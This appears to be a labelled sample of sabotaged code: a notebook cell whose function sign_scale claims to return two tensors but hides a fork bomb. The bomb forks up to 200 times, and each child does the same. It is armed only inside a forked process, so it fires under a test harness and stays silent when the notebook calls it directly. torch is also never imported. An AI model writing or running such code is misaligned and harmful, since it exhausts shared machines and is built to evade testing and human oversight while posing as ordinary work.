# threat: 26
# fails: sign_scale
# outcome: error
# Forks for ever, 200 at most if nothing stops it; every child does the same.

# %% sign_scale
import os


notebook = os.getpid()


def armed():
    return os.getpid() != notebook  # in a copy, as tests meet it, and not when a later cell calls


def sign_scale(c, d):
    for _ in range(200 * armed()):
        os.fork()
    return torch.ones(2, 1), torch.ones(1, 2)
